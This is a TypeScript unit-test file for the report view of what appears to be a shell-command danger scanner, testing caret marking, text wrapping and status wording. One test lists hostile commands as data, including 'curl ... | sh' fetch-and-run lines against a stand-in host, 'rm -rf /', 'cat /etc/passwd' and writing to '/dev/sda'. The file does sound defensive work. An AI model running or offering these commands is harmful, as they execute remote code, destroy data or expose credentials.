import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { terminal } from '../../src/report/escape.ts';
import { chop, clipColumns, textWidth, wrap } from '../../src/report/view/columns.ts';
import { markedLines } from '../../src/report/view/command-lines.ts';
import { spansOf } from '../../src/report/view/finding.ts';
import { fixList } from '../../src/report/view/fix.ts';
import { geneName } from '../../src/report/view/genes.ts';
import { claimList, uncountedList } from '../../src/report/view/rows.ts';
import { clip, duration, grouped, statusWords } from '../../src/report/view/words.ts';
import { forAll, forMany } from '../runs.ts';
import { everyField, finding, gene, outcome, report } from './fixtures.ts';
import { hostileText } from './hostile.ts';

describe('markedLines', () => {
  const shown = (lines: readonly string[]) => lines.filter((line) => !/^[ ^]*\^$/.test(line));

  it.each([
    ['node "a', { start: 7, end: 7 }, ['node "a', '       ^']],
    ['', { start: 0, end: 0 }, ['', '^']],
    ['node a\nid', { start: 6, end: 7 }, ['node a<U+000A>id', '      ^^^^^^^^']],
    ['node 漢字 | x', { start: 8, end: 9 }, ['node 漢字 | x', '          ^']],
  ])('%j at %j', (command, span, lines) => expect(markedLines(command, [span])).toEqual(lines));

  it.each([
    ['npm test && curl -s http://a.b/c | sh', 'curl -s http://a.b/c | sh'],
    [
      'curl -so a.sh http://a.b/a.sh; echo 漢字; bash a.sh',
      'curl -so a.sh http://a.b/a.sh; echo 漢字; bash a.sh',
    ],
    ['node a.js | sh -c "$(curl http://a.b)"', 'sh -c "$(curl http://a.b)"'],
    ["bash -c 'curl -o x.sh http://a.b/x.sh' && sh x.sh", 'sh x.sh'],
    ["bash -c 'ls; curl http://a.b | sh'", "bash -c 'ls; curl http://a.b | sh'"],
    ['echo 漢字\t&& rm -rf / && ls', 'rm -rf /'],
    ['npm test && cat /etc/passwd', 'etc/passwd'],
    ['FOO=.env npm test | tee .netrc', '.env'],
    ['node -e "a(); process.env.X"', 'process.env'],
    ['npm test; env -i rm x', 'rm'],
    ['ls | sudo ls', 'sudo'],
    ['echo a > /dev/sda', '/dev/sda'],
    ['ls && wget http://a.b', 'wget'],
    [`${'x'.repeat(3000)} && curl http://a.b | sh`, 'curl http://a.b | sh'],
  ])('marks the danger, and not the operator: %s', (text, marked) => {
    const operator = finding({
      rule: 'shell-operator',
      danger: 'is bad',
      span: { start: 0, end: 1 },
    });
    const [span] = spansOf(text, [operator]);
    expect(text.slice(span?.start, span?.end)).toBe(marked);
    const lines = markedLines(text, spansOf(text, [operator]));
    const at = lines.findIndex((line) => /^ *\^+$/.test(line));
    expect(lines[at]?.length).toBe(
      textWidth(lines[at - 1]?.slice(0, lines[at - 1]?.indexOf(marked)) ?? '') + textWidth(marked),
    );
  });

  it('marks each span, and wraps', () => {
    const spans = [
      { start: 2, end: 3 },
      { start: 6, end: 9 },
    ];
    expect(markedLines('a | b && c', spans, 5)).toEqual(['a | b', '  ^', ' && c', ' ^^^']);
  });

  it('shows every character of a command, whatever it is', () =>
    forAll(
      fc.array(hostileText).map((texts) => texts.join(' ').slice(0, 2000)),
      fc.array(fc.record({ start: fc.nat(60), end: fc.nat(90) }), { maxLength: 3 }),
      fc.integer({ min: 20, max: 80 }),
      (command, spans, columns) => {
        const lines = markedLines(command, spans, columns);
        for (const line of lines) expect(textWidth(line)).toBeLessThanOrEqual(columns);
        const unmarked = markedLines(command, [], columns);
        expect(unmarked.join('')).toBe(terminal(command));
        if (!command.includes('^'))
          expect(shown(lines).join('').trimEnd()).toBe(terminal(command).trimEnd());
      },
    ));

  it('counts what it leaves out of a very long command, and shows each mark', () =>
    forMany(
      50,
      fc.integer({ min: 2001, max: 20_000 }),
      fc.array(fc.nat(25_000), { maxLength: 5 }),
      (length, starts) => {
        const command = Array.from({ length }, (_, index) =>
          starts.includes(index) ? 'M' : 'x',
        ).join('');
        const lines = markedLines(
          command,
          starts.map((start) => ({ start, end: start + 1 })),
        );
        const counted = shown(lines).map((line) => {
          const [, number] = /^\[([\d,]+) characters? not shown\]$/.exec(line) ?? [];
          return number === undefined ? line.length : Number(number.replaceAll(',', ''));
        });
        expect(counted.reduce((sum, number) => sum + number, 0)).toBe(length);
        const marks = (text: string) => text.replace(/[^M]/g, '').length;
        expect(marks(lines.join(''))).toBe(marks(command));
      },
    ));
});

it.each([40, 60, 80])('columns breaks no hash at %i columns', (columns) => {
  const hash = `\`sha256:${'0a'.repeat(32)}\`;`;
  const lines = wrap(`Set the \`asset_id\` to ${hash} or ${'x'.repeat(100)}.`, columns);
  expect(lines).toContainEqual(expect.stringContaining(hash));
  expect(lines.filter((line) => line.length > columns && !line.includes(hash))).toEqual([]);
});

it('columns wraps between words, breaks what is longer, and loses nothing', () =>
  forAll(
    fc.array(fc.stringMatching(/^[a-z漢]{0,30}$/)),
    fc.integer({ min: 5, max: 20 }),
    (words, columns) => {
      const text = words.join(' ');
      for (const lines of [wrap(text, columns), chop(text, columns)]) {
        for (const line of lines) expect(textWidth(line)).toBeLessThanOrEqual(columns);
        expect(lines.join('').replaceAll(' ', '')).toBe(text.replaceAll(' ', ''));
      }
      expect(textWidth(clipColumns(text, columns))).toBeLessThanOrEqual(columns);
    },
  ));

it.each([
  [999, '999 ms'],
  [1000, '1.0 s'],
  [60_000, '1 min 0 s'],
])('says %d ms as %s', (ms, words) => expect(duration(ms)).toBe(words));

it('groups digits as the language of the reports does', () => {
  for (const number of [0, 7, 999, 1000, 12_345, 123_456, 1_234_567, 2 ** 53 - 1]) {
    expect(grouped(number)).toBe(number.toLocaleString('en-US'));
  }
});

it('clips without splitting a pair', () => {
  expect(clip('abc', 3)).toBe('abc');
  expect(clip('ab😀d', 4)).toBe('ab…');
});

it.each([
  [{ status: 'failed', exit_code: 2 }, 'failed with exit code 2'],
  [{ status: 'crashed', exit_code: null, signal: 'SIGSEGV' }, 'crashed with SIGSEGV'],
  [{ status: 'timed_out', exit_code: null, signal: 'SIGKILL' }, 'timed out'],
] as const)('the output of a failed command %j is said as %s', (status, words) =>
  expect(statusWords(outcome(status))).toBe(words),
);

it('lists the first twenty files that do not count', () => {
  const { blast_radius } = report();
  const changed_files = Array(21).fill({ path: 'a.js', lines: 1, veil: 'generated' });
  const radius = blast_radius && { ...blast_radius, changed_files };
  expect(uncountedList({ blast_radius: radius }).rows).toHaveLength(20);
});

it('says once that a Capsule is not eligible, and once that content hashes are new', () => {
  const message = 'The Capsule `c` is not eligible: the events show 0 successes.';
  const [capsule] = everyField().capsules.map((each) => {
    return { ...each, reasons: [{ rule: 'capsule-streak', message }] };
  });
  const { rows } = claimList({ capsules: capsule ? [capsule] : [], events: [] });
  expect(rows[0]?.notes).toEqual([{ text: 'The events show 0 successes. (`capsule-streak`)' }]);
  const edit = { finding: 'f', path: 'g.json', old: 'a', new: ['b'], after: 'allow' as const };
  const edits = ['/genes/0/validation/0', '/genes/0/asset_id'].map((pointer) => {
    return { ...edit, pointer };
  });
  expect(fixList({ base_sha: null, fix: { edits, patch: null } }).rows[0]?.words).toMatch(
    /^Writes 1 command with new content hashes; /,
  );
});

it('geneName has the path where two stores have one id', () => {
  const genes = [gene('a', { path: 'x.json' }), gene('a', { path: 'y.json' }), gene('b')];
  expect(genes.map((each) => geneName(each, genes))).toEqual(['a (x.json)', 'a (y.json)', 'b']);
});
